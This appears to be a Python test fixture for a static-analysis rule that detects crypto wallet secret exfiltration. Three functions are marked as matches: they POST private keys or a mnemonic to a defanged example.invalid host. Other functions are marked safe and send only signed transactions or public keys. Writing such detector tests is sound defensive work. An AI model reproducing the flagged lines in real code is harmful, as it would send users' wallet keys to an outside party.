# Test for wallet-secret-exfil (defanged: example.invalid).
import requests


def perm(private_key):
    data = [{"key", private_key}]
    # ruleid: wallet-secret-exfil
    requests.post("https://example.invalid/tron", json={"k": private_key})
    return data


def backup(mnemonic):
    # ruleid: wallet-secret-exfil
    requests.post("https://example.invalid/b", data=mnemonic)


def sign(tx, private_key):
    # ok: wallet-secret-exfil
    return requests.post("https://example.invalid/rpc", json={"tx": tx.sign(private_key).hex()})


def publish(public_key):
    # ok: wallet-secret-exfil
    requests.post("https://example.invalid/keys", json={"pub": public_key})


def perm2(private_key):
    transaction_data = [{"k", private_key}]
    # ruleid: wallet-secret-exfil
    requests.post("https://example.invalid/tron", transaction_data)


def send_signed(tx, private_key):
    payload = {"raw": tx.sign(private_key)}
    # ok: wallet-secret-exfil
    requests.post("https://example.invalid/rpc", json=payload)
